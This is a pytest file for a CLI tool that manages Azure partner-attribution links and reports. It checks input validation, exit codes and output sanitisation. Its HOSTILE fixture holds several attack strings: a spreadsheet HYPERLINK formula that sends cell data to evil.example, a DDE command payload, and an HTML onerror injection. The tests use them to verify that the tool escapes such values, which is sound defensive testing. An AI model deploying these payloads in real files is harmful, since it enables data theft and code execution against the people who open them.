"""Every input of the command line that is not what it should be: a clear message and one exit code, never a traceback."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from conftest import PROJECT_ROOT
from partner_attribution.cli import app
from partner_attribution.pal import client as pal_client
from partner_attribution.pal.client import LinkState

runner = CliRunner()
PARTNER = "1234567"
LIVE_COMMANDS = (("verify",), ("link", "--partner-id", PARTNER), ("show",), ("unlink",))


def invoke(*args: str, stdin: str | bytes | None = None) -> Any:
    return runner.invoke(app, list(args), input=stdin, catch_exceptions=False)


@pytest.fixture(autouse=True)
def _in_project(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(PROJECT_ROOT)
    for key in ("AZURE_TENANT_ID", "AZURE_CLIENT_ID", "AZURE_CLIENT_SECRET"):
        monkeypatch.delenv(key, raising=False)


def one_line(text: str) -> str:
    """Rich wraps usage errors in a box: the words alone."""
    return " ".join(text.replace("│", " ").split())


# -- plan: a stack file refused ------------------------------------------------------------------------


def test_plan_reports_a_refused_stack_file_and_exits_1(tmp_path: Path) -> None:
    path = tmp_path / "Pulumi.octal.yaml"
    path.write_text("config:\n  partner-attribution:partnerId: 0123\n")
    result = invoke("plan", "--config", str(path))
    assert result.exit_code == 1
    assert "Traceback" not in result.stdout + result.stderr
    assert (
        f"{path}:2: config.partner-attribution:partnerId: unquoted 0123 is read by Pulumi as the octal number 83, "
        'not the digits written; write it in quotes: "0123"'
    ) in one_line(result.stderr)


def test_plan_json_carries_the_refusal(tmp_path: Path) -> None:
    path = tmp_path / "Pulumi.dup.yaml"
    path.write_text('config:\n  partner-attribution:partnerId: "1234567"\n  partner-attribution:partnerId: "7654321"\n')
    result = invoke("plan", "--config", str(path), "--format", "json")
    assert result.exit_code == 1
    assert json.loads(result.stdout)["errors"] == [
        f'{path}:3: config.partner-attribution:partnerId: duplicate key "partner-attribution:partnerId" '
        "(first at line 2, again at line 3); Pulumi refuses a stack file with a key twice: keep one"
    ]


# -- --timeout -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("command", LIVE_COMMANDS, ids=lambda c: c[0])
@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "0", "-1", "1e400", "86401"])
def test_timeout_must_be_finite_and_positive(command: tuple[str, ...], value: str) -> None:
    result = invoke(*command, "--timeout", value)
    assert result.exit_code == 2
    message = one_line(result.stderr)
    assert "Invalid value for --timeout: must be a number of seconds more than 0 and at most 86400 (a day)" in message


def test_timeout_that_is_not_a_number_is_a_usage_error() -> None:
    result = invoke("show", "--timeout", "soon")
    assert result.exit_code == 2 and "--timeout" in result.stderr


# -- one exit code for a missing or unreadable file ----------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ("plan", "--config", "/nonexistent/Pulumi.x.yaml"),
        ("plan", "--stack", "nonexistent"),
        ("plan", "--stack", "dev", "--program", "/nonexistent/__main__.py"),
        ("report", "--input", "/nonexistent/output.json"),
        ("verify", "--input", "/nonexistent/output.json"),
    ],
    ids=["plan-config", "plan-stack", "plan-program", "report-input", "verify-input"],
)
def test_a_missing_file_is_a_usage_error_everywhere(args: tuple[str, ...]) -> None:
    result = invoke(*args)
    assert result.exit_code == 2
    assert "nonexistent" in result.stderr and "Traceback" not in result.stderr


@pytest.mark.parametrize("command", ["report", "verify"])
def test_a_directory_or_non_utf8_input_is_a_usage_error(command: str, tmp_path: Path) -> None:
    assert invoke(command, "--input", str(tmp_path)).exit_code == 2
    latin = tmp_path / "output.json"
    latin.write_bytes('{"attribution": {"partnerId": "Café"}}'.encode("latin-1"))
    result = invoke(command, "--input", str(latin))
    assert result.exit_code == 2 and "is not UTF-8 text" in one_line(result.stderr)
    piped = invoke(command, stdin=b'{"a": "caf\xe9"}')
    assert piped.exit_code == 2 and "standard input is not UTF-8 text" in one_line(piped.stderr)


@pytest.mark.parametrize("command", ["report", "verify"])
def test_deeply_nested_json_is_a_usage_error(command: str) -> None:
    result = invoke(command, stdin="[" * 100_000)
    assert result.exit_code == 2 and "nested too deeply" in result.stderr


# -- verify and report: JSON that is not what they read ------------------------------------------------

ATTRIBUTION = {"partnerId": PARTNER, "principals": [{"name": "a", "roles": []}]}
SECRET = "s3cr3t-Value~that-must-not-leak"


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ([], "expected the output of 'pulumi stack output --json --show-secrets'"),
        ("text", "expected the output of 'pulumi stack output --json --show-secrets'"),
        ({"attribution": ATTRIBUTION}, "with 'attribution' and 'linkCredentials'"),
        ({"attribution": [], "linkCredentials": {}}, "attribution: expected an object, got list"),
        ({"attribution": {"principals": {}}, "linkCredentials": {}}, "attribution.principals: expected list"),
        ({"attribution": {"principals": [7]}, "linkCredentials": {}}, "attribution.principals[0]: expected an object, got int"),
        ({"attribution": ATTRIBUTION, "linkCredentials": "[secret]"}, "'linkCredentials' is hidden"),
        ({"attribution": ATTRIBUTION, "linkCredentials": [SECRET]}, "'linkCredentials' must be an object"),
        ({"attribution": ATTRIBUTION, "linkCredentials": {}}, "no credentials for principal 'a'"),
        ({"attribution": ATTRIBUTION, "linkCredentials": {"a": SECRET}}, "linkCredentials.a: expected {tenantId, clientId"),
        (
            {"attribution": ATTRIBUTION, "linkCredentials": {"a": {"tenantId": "t", "clientId": "c", "clientSecret": [SECRET]}}},
            "linkCredentials.a: expected {tenantId, clientId, clientSecret} as strings",
        ),
    ],
)
def test_verify_input_of_the_wrong_shape_is_a_usage_error(document: Any, message: str) -> None:
    result = invoke("verify", stdin=json.dumps(document))
    assert result.exit_code == 2
    assert message in one_line(result.stderr)
    assert SECRET not in result.stdout + result.stderr
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ([], "expected the output of 'pulumi stack output --json'"),
        (None, "expected the output of 'pulumi stack output --json'"),
        ({"attribution": []}, "attribution: expected an object, got list"),
        ({"attribution": {"principals": "all"}}, "attribution.principals: expected list"),
        (
            {"attribution": {"principals": [{"name": "a", "roles": [1]}]}},
            "attribution.principals[0].roles[0]: expected an object",
        ),
        ({"attribution": {"principals": [{"name": "a", "roles": [{"role": "R", "scope": "/"}]}]}}, "'palEligible' is missing"),
        ({"attribution": {"principals": [], "nonAzureWorkloads": [{"name": 1}]}}, "nonAzureWorkloads[0].name: expected str"),
        ({"attribution": {"principals": [], "version": "one"}}, "attribution.version: expected int"),
        ({"attribution": {"principals": [], "version": 99}}, "version 99 is newer than this tool reads"),
    ],
)
def test_report_input_of_the_wrong_shape_is_a_usage_error(document: Any, message: str) -> None:
    result = invoke("report", stdin=json.dumps(document))
    assert result.exit_code == 2
    assert message in one_line(result.stderr)
    assert "Traceback" not in result.stderr


# -- report: hostile names can't inject formulas or break tables --------------------------------------

HOSTILE: dict[str, Any] = {
    "partnerId": PARTNER,
    "principals": [
        {
            "name": '=HYPERLINK("https://evil.example/?"&A1,"click")',
            "partnerId": PARTNER,
            "configuredPartnerId": PARTNER,
            "linkState": "Active",
            "palEligible": True,
            "roles": [
                {"role": "+cmd|' /C calc'!A0", "scope": "-2+3", "palEligible": True},
                {"role": "@SUM(1+1)", "scope": "\t=1+1", "palEligible": True},
                {"role": "Reader", "scope": "\r=2", "palEligible": False},
            ],
        },
        {
            "name": "evil | injected | cells\n| new | row |\r\nthird\\|line <img src=x onerror=alert(1)>",
            "partnerId": PARTNER,
            "configuredPartnerId": PARTNER,
            "linkState": "Active",
            "palEligible": False,
            "roles": [{"role": "Contributor", "scope": "/subscriptions/1|2", "palEligible": True}],
        },
    ],
    "nonAzureWorkloads": [{"name": "=1+1", "product": "-unknown|product"}],
}


def test_csv_cells_that_could_be_formulas_are_neutralised() -> None:
    result = invoke("report", "--format", "csv", stdin=json.dumps({"attribution": HOSTILE}))
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    cells = [cell for row in rows for cell in row.values()]
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    assert rows[0]["principal"] == "'" + HOSTILE["principals"][0]["name"]
    assert (rows[0]["role"], rows[0]["scope"]) == ("'+cmd|' /C calc'!A0", "'-2+3")
    assert (rows[1]["role"], rows[1]["scope"]) == ("'@SUM(1+1)", "'\t=1+1")
    assert rows[2]["scope"] == "'\n=2"  # a bare CR would end the row: it becomes a quoted line break
    assert rows[3]["principal"].startswith("evil | injected")  # not a formula: kept as written
    assert (rows[0]["partnerId"], rows[0]["linkState"], rows[0]["linkedPartnerId"]) == (PARTNER, "Active", PARTNER)
    assert len(rows) == 4  # one record type: grants only (workloads are in the other formats)


def _unescaped_pipes(line: str) -> int:
    return len(re.findall(r"(?<!\\)(?:\\\\)*\|", line))


def test_markdown_cells_cannot_break_the_table() -> None:
    result = invoke("report", stdin=json.dumps({"attribution": HOSTILE}))
    lines = result.stdout.splitlines()
    header = lines.index("| principal | partner ID | link | link credential | PEC-eligible | roles |")
    rows = lines[header + 2 : header + 4]
    assert len(rows) == 2 and lines[header + 4] == ""
    for row in rows:
        assert row.startswith("| ") and row.endswith(" |")
        assert _unescaped_pipes(row) == 7, row
    evil = rows[1]
    assert "evil \\| injected \\| cells<br>\\| new \\| row \\|<br>third\\\\\\|line" in evil
    assert "<img" not in result.stdout and "&lt;img src=x onerror=alert(1)&gt;" in evil
    assert "/subscriptions/1\\|2" in evil
    claims = lines[lines.index("| workload | product | association | where |") + 2]
    assert _unescaped_pipes(claims) == 5 and "-unknown\\|product" in claims
    gaps = lines[lines.index("## Gaps") + 2 : lines.index("## Gaps") + 4]
    assert gaps == [
        "- evil \\| injected \\| cells<br>\\| new \\| row \\|<br>third\\\\\\|line &lt;img src=x onerror=alert(1)&gt;: "
        "no PEC-eligible role: earns no partner earned credit (its PAL link still associates the partner)",
        "",
    ]


def test_a_partner_id_with_a_line_break_cannot_add_markdown() -> None:
    document = {"partnerId": "1234567\n# injected heading", "principals": []}
    lines = invoke("report", stdin=json.dumps({"attribution": document})).stdout.splitlines()
    assert lines[0] == "# Partner attribution: partner ID 1234567<br># injected heading"
    assert not any(line.startswith("# injected") for line in lines)


# -- Ctrl-C in the middle of a write -------------------------------------------------------------------


def _interrupt(*_args: Any, **_kwargs: Any) -> Any:
    raise KeyboardInterrupt


def test_interrupted_link_says_it_may_have_reached_azure_and_exits_130(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pal_client.PartnerLinkClient, "link", _interrupt)
    result = invoke("link", "--partner-id", PARTNER)
    assert result.exit_code == 130
    assert one_line(result.stderr) == (
        f"interrupted while linking to partner ID {PARTNER}: the request may have reached Azure, so the identity may "
        "now be linked to it. Check with the same identity: partner-attribution show"
    )
    assert "Traceback" not in result.stderr and "Aborted" not in result.stderr


def test_interrupted_unlink_names_the_check_with_the_same_options(monkeypatch: pytest.MonkeyPatch) -> None:
    current = LinkState(partner_id=PARTNER, partner_name="Contoso", tenant_id="t", object_id="o", state="Active")
    monkeypatch.setattr(pal_client.PartnerLinkClient, "get", lambda _self: current)
    monkeypatch.setattr(pal_client.PartnerLinkClient, "unlink", _interrupt)
    result = invoke("unlink", "--cloud", "usgovernment", "--arm-endpoint", "https://arm.example/some path")
    assert result.exit_code == 130
    assert one_line(result.stderr) == (
        f"interrupted while unlinking from partner ID {PARTNER}: the request may have reached Azure, so the link may be "
        "gone. Check with the same identity: partner-attribution show --cloud usgovernment "
        "--arm-endpoint 'https://arm.example/some path'"
    )


def test_interrupted_read_exits_130(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pal_client.PartnerLinkClient, "get", _interrupt)
    result = invoke("show")
    assert result.exit_code == 130
    assert result.stderr.strip() == "interrupted"
